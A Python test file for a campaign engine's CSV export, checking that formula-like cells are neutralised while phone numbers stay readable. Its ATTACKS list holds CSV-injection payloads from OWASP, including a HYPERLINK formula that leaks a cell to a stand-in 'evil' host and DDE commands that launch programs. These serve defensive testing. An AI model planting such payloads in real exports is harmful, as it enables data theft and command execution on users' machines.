"""CSV exports open in a spreadsheet as text, never as formulas (OWASP's CSV injection
examples), while phone numbers stay as the operator knows them."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from engine.domain.csv_safe import SafeCsvWriter, neutralise
from engine.store.db import Database
from engine.store.failed_export import export_csv, export_file
from engine.store.failed_query import FailedQuery
from engine.store.models import Campaign, FailedJob
from tests.failed_seed import seed_failed

# From OWASP's CSV Injection page and the issue.
ATTACKS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "@provider said no",
    "+ not a number",
    "-",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_are_quoted(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    "+254712345678", "+2547******78", "invalid_number: +254712345678", "Choir fundraiser",
    "", "2026-12-01T10:00:00+00:00", "a=b", "q3_reminder",
])
def test_ordinary_cells_and_phone_numbers_are_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


def test_numbers_and_empty_cells_pass_through() -> None:
    assert [neutralise(v) for v in (-5, 3.5, None)] == [-5, 3.5, None]
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+1", -5, "+254712345678"])
    assert out.getvalue() == "'=1+1,-5,+254712345678\r\n"


def test_failed_jobs_export_neutralises_names_and_errors(db: Database, tmp_path: Path) -> None:
    [campaign_id, *_] = seed_failed(db, 3)
    with db.session() as session:
        session.get_one(Campaign, campaign_id).name = ATTACKS[0]
        for job in session.query(FailedJob):
            job.last_error = "@SUM(1+1)*cmd|' /C calc'!A0"
    whole = io.StringIO()
    with db.session() as session:
        export_csv(session, FailedQuery(), whole, full_phones=True)
    rows = list(csv.DictReader(io.StringIO(whole.getvalue())))
    assert {r["campaign"] for r in rows} >= {"'" + ATTACKS[0]}
    assert {r["last_error"] for r in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert {r["recipient"] for r in rows} == {"+254700000005", "+254700000015",
                                              "+254700000025"}  # readable, unquoted
    path = tmp_path / "failed.csv"
    umask = os.umask(0o022)  # what the operator's shell usually has
    try:
        with db.session() as session:
            export_file(session, FailedQuery(), path)
    finally:
        os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o600  # names and numbers: the operator's only
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8")
